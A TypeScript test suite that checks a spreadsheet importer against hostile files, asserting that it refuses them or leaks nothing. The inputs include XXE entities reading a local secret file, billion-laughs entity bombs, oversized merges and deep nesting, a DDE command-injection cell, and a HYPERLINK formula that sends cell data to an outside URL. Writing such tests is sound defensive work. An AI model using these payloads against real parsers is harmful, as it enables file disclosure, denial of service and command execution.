import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openHostile, unfinished, type HostileFixture } from './hostile-fixture.ts';
import { makeOds, makeXlsx, odsEntries, odsRow, textCell, xlsxEntries } from './office-fixture.ts';
import { contract, field } from './reading-fixture.ts';
import { makeZip } from './zip-fixture.ts';

let hostile: HostileFixture;
beforeAll(async () => {
	hostile = await openHostile();
});
afterAll(() => hostile.close());

const damaged = { fr: /abîmé/, en: /damaged/ };
const entities = { fr: /DOCTYPE/, en: /DOCTYPE/ };
const row = (line: number, ...cells: string[]) => `<row r="${line}">${cells.join('')}</row>`;
const data = (...rows: string[]) => `<sheetData>${rows.join('')}</sheetData>`;
const header = row(1, textCell('A1', 'Nom'));
const anne = { read: 1, accepted: 1, rejected: 0, blank: 0 };

describe('mergeCell A1:XFD1048576', () => {
	test('costs nothing, and repeats no value', async () => {
		const sheet = `${data(header, row(2, textCell('A2', 'Anne')))}<mergeCells count="2"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:ZZZZ99999999999"/></mergeCells>`;
		const reading = await hostile.read('a.xlsx', makeXlsx({ sheet }));
		expect(reading.rows).toEqual(anne);
	});
	test('nor a LibreOffice cell spread over the whole sheet', async () => {
		const spread = `<table:table-row><table:table-cell office:value-type="string" table:number-columns-spanned="16384" table:number-rows-spanned="1048576"><text:p>Nom</text:p></table:table-cell><table:covered-table-cell table:number-columns-repeated="16383"/></table:table-row>`;
		const reading = await hostile.read('a.ods', makeOds(spread + odsRow(['Anne'])));
		expect(reading.rows).toEqual(anne);
	});
});

describe('far cells', () => {
	test('the last row and the last column', async () => {
		const sheet = data(
			header,
			row(2, textCell('A2', 'Anne'), textCell('XFD2', 'loin')),
			row(1_048_576, textCell('A1048576', 'Bob'), textCell('XFD1048576', 'loin'))
		);
		const reading = await hostile.read('a.xlsx', makeXlsx({ sheet }));
		expect(reading.refused).toBeNull();
		const rows = await hostile.accepted(reading);
		expect(rows.map(({ name, _line }) => [name, _line])).toEqual([
			['Anne', 2],
			['Bob', 1_048_576]
		]);
		expect(hostile.partBytes(reading).includes('loin')).toBe(false);
	});
	test.each([
		['XFE2', 'one column further'],
		['ZZZZZZZZZZZZ2', 'a column that no number holds']
	])('%s, %s', async (reference) => {
		const sheet = data(header, row(2, textCell(reference, 'x')));
		await hostile.refuses('a.xlsx', makeXlsx({ sheet }), damaged);
	});
	test.each(['1048577', '4294967297', '99999999999999999999', '1e300'])(
		'a row that says it is row %s',
		async (line) => {
			const sheet = data(header, `<row r="${line}">${textCell('A2', 'x')}</row>`);
			await hostile.refuses('a.xlsx', makeXlsx({ sheet }), damaged);
		}
	);
	test.each(['1', '0', '-5', '2.5', 'NaN', ''])(
		'a row that says it is row %j, below the first, is the next one',
		async (line) => {
			const sheet = data(header, `<row r="${line}">${textCell('A2', 'Anne')}</row>`);
			const reading = await hostile.read('a.xlsx', makeXlsx({ sheet }));
			expect(await hostile.accepted(reading)).toMatchObject([{ name: 'Anne', _line: 2 }]);
		}
	);
	test('LibreOffice rows and cells repeated to the end of the sheet', async () => {
		const empty = `<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>`;
		const reading = await hostile.read(
			'a.ods',
			makeOds(odsRow(['Nom']) + odsRow(['Anne']) + empty)
		);
		expect(reading.rows).toEqual(anne);
	});
	test('a LibreOffice table of one row, repeated over every cell', async () => {
		const cells = `<table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>`;
		const all = `<table:table-row table:number-rows-repeated="1048575">${cells}</table:table-row>`;
		const wide = contract([field('a', { title: 'x1' }), field('b', { title: 'x16384' })]);
		const names = odsRow(Array.from({ length: 16_384 }, (_, at) => `x${at + 1}`));
		const reading = await hostile.read('a.ods', makeOds(names + all), wide);
		expect(reading.refused?.message.fr).toMatch(/50.millions de cellules/);
		expect(reading.refused?.message.en).toMatch(/50 million cells/);
	});
});

describe('16,384 columns', () => {
	const letters = (column: number): string =>
		column < 0
			? ''
			: letters(Math.floor(column / 26) - 1) + String.fromCharCode(65 + (column % 26));
	const wide = contract([field('first', { title: 'c1' }), field('last', { title: 'c16384' })]);
	const names = Array.from({ length: 16_384 }, (_, at) => `c${at + 1}`);

	test('of an Excel workbook are read to the last', async () => {
		const cells = (line: number, texts: readonly string[]) =>
			row(line, ...texts.map((text, at) => textCell(`${letters(at)}${line}`, text)));
		const sheet = data(
			cells(1, names),
			cells(
				2,
				names.map((name) => `v${name}`)
			)
		);
		const reading = await hostile.read('a.xlsx', makeXlsx({ sheet }), wide);
		expect(await hostile.accepted(reading)).toMatchObject([{ first: 'vc1', last: 'vc16384' }]);
	});
	test('of a LibreOffice workbook too, and of a CSV', async () => {
		const ods = makeOds(odsRow(names) + odsRow(names.map((name) => `v${name}`)));
		const csv = `${names.join(';')}\n${names.map((name) => `v${name}`).join(';')}\n`;
		for (const reading of [
			await hostile.read('a.ods', ods, wide),
			await hostile.read('a.csv', csv, wide)
		])
			expect(await hostile.accepted(reading)).toMatchObject([{ first: 'vc1', last: 'vc16384' }]);
	});
	test('what is understood of them stays small enough to be told', async () => {
		const long = names.map((name) => name.padEnd(60, 'x')).join(';');
		const { understanding } = await hostile.inspect('a.csv', `${long}\n${'1;'.repeat(16_383)}1\n`);
		expect(understanding.columns).toHaveLength(16_384);
	});
});

describe('XXE: nothing outside the file is read', () => {
	let secret: string;
	beforeAll(() => {
		secret = join(hostile.folder, 'secret.txt');
		writeFileSync(secret, 'TOP-SECRET');
	});
	const external = (path: string, inside: string) =>
		`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://${path}">]>${inside}`;

	test('from a sheet, the shared strings, or the workbook itself', async () => {
		const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
		const sheet = external(
			secret,
			`<worksheet ${ns}>${data(header, row(2, textCell('A2', '&x;')))}</worksheet>`
		);
		const strings = external(secret, `<sst ${ns}><si><t>Nom</t></si><si><t>&x;</t></si></sst>`);
		for (const bytes of [
			makeZip(xlsxEntries({ sheetEntry: { content: sheet } })),
			makeZip(xlsxEntries({ sheetEntry: { content: Buffer.from(`\ufeff${sheet}`, 'utf16le') } })),
			makeXlsx({ strings, sheet: data('<row r="1"><c r="A1" t="s"><v>0</v></c></row>') })
		]) {
			const reading = await hostile.read('a.xlsx', bytes);
			expect(reading.refused).not.toBeNull();
			expect(JSON.stringify(reading)).not.toContain('TOP-SECRET');
		}
	});
	test('from a LibreOffice workbook', async () => {
		const content = external(secret, '<office:document-content>&x;</office:document-content>');
		await hostile.refuses('a.ods', makeZip(odsEntries('', { content })), entities);
	});
	test('from XML that is no workbook', async () => {
		await hostile.refuses('a.csv', external(secret, '<a>&x;</a>'), {
			fr: /HTML ou XML/,
			en: /HTML or XML/
		});
	});
	test('parts that a workbook says lie elsewhere are not fetched', async () => {
		const elsewhere = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="file://${secret}" TargetMode="External"/></Relationships>`;
		const entries = xlsxEntries({ sheet: data(header) }).map((entry) =>
			entry.name === 'xl/_rels/workbook.xml.rels' ? { ...entry, content: elsewhere } : entry
		);
		const reading = await hostile.read('a.xlsx', makeZip(entries));
		expect(JSON.stringify(reading)).not.toContain('TOP-SECRET');
	});
});

describe('billion laughs', () => {
	const laughs = (inside: string) =>
		`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>${inside}`;

	test.each([
		[
			'a sheet',
			makeZip(xlsxEntries({ sheetEntry: { content: laughs('<worksheet>&l30;</worksheet>') } }))
		],
		['shared strings', makeXlsx({ strings: laughs('<sst><si><t>&l30;</t></si></sst>') })],
		[
			'a part of another name',
			makeZip(xlsxEntries({ more: [{ name: 'docProps/app.xml', content: laughs('<a/>') }] }))
		],
		['a LibreOffice workbook', makeZip(odsEntries('', { content: laughs('<a>&l30;</a>') }))]
	])('%s', async (name, bytes) => {
		await hostile.refuses(`${name}.xlsx`, bytes, entities);
	});
	test('in UTF-16, where the words are hidden from a search', async () => {
		const content = Buffer.from(`\ufeff${laughs('<worksheet>&l30;</worksheet>')}`, 'utf16le');
		await hostile.refuses('a.xlsx', makeZip(xlsxEntries({ sheetEntry: { content } })), {
			fr: /abîmé|DOCTYPE/,
			en: /damaged|DOCTYPE/
		});
	});
	describe('its cousin: one long text that every cell points to', () => {
		const pointing = (text: string) => {
			const cells = Array.from(
				{ length: 200_000 },
				(_, at) => `<row r="${at + 2}"><c r="A${at + 2}" t="s"><v>1</v></c></row>`
			);
			return makeXlsx({
				strings: `<sst><si><t>Nom</t></si><si><t>${text}</t></si></sst>`,
				sheet: data(`<row r="1"><c r="A1" t="s"><v>0</v></c></row>${cells.join('')}`)
			});
		};
		test('longer than any cell', async () => {
			const words = {
				fr: /dépasse un million de caractères/,
				en: /longer than a million characters/
			};
			await hostile.refuses('a.xlsx', pointing('x'.repeat(4_000_000)), words);
		});
		test('too long together', async () => {
			const reading = await hostile.read('a.xlsx', pointing('x'.repeat(900_000)));
			expect(reading.refused?.message.fr).toMatch(/plus d’un milliard de caractères/);
			expect(reading.refused?.message.en).toMatch(/more than a billion characters/);
			expect(unfinished(hostile.folder)).toEqual([]);
		});
		test('in a LibreOffice row that repeats itself', async () => {
			const again = odsRow(['x'.repeat(900_000)], 'table:number-rows-repeated="200000"');
			const reading = await hostile.read('a.ods', makeOds(odsRow(['Nom']) + again));
			expect(reading.refused?.message.fr).toMatch(/plus d’un milliard de caractères/);
		});
	});
});

describe('XML that never ends well', () => {
	test('300,000 elements inside one another', async () => {
		const sheet = data(header) + '<a>'.repeat(300_000);
		await hostile.refuses('a.xlsx', makeXlsx({ sheet }), {
			fr: /abîmé|mémoire/,
			en: /damaged|memory/
		});
	});
	test('a sheet cut in the middle of a cell', async () => {
		const content = '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Nom';
		await hostile.refuses('a.xlsx', makeZip(xlsxEntries({ sheetEntry: { content } })), damaged);
	});
	test('a cell that points to no text', async () => {
		const sheet = data(header, '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>');
		await hostile.refuses('a.xlsx', makeXlsx({ sheet }), damaged);
	});
	test('200,000 sheets that are one', async () => {
		const sheets = Array.from(
			{ length: 200_000 },
			(_, at) => `<sheet name="s${at}" sheetId="${at}" r:id="r1"/>`
		);
		const entries = xlsxEntries({ sheet: data(header, row(2, textCell('A2', 'Anne'))) }).map(
			(entry) =>
				entry.name === 'xl/workbook.xml'
					? {
							...entry,
							content: `<workbook xmlns:r="r"><sheets>${sheets.join('')}</sheets></workbook>`
						}
					: entry
		);
		const reading = await hostile.read('a.xlsx', makeZip(entries));
		expect(reading.rows).toEqual(anne);
	});
});

test('formulas are read as what they gave, never run', async () => {
	const sheet = data(
		header,
		'<row r="2"><c r="A2" t="str"><f>HYPERLINK("https://example.org/?"&amp;A1,"x")</f><v>lien</v></c></row>',
		row(3, textCell('A3', "=cmd|'/c calc'!A0"))
	);
	const reading = await hostile.read('a.xlsx', makeXlsx({ sheet }));
	expect((await hostile.accepted(reading)).map((one) => one['name'])).toEqual([
		'lien',
		"=cmd|'/c calc'!A0"
	]);
});
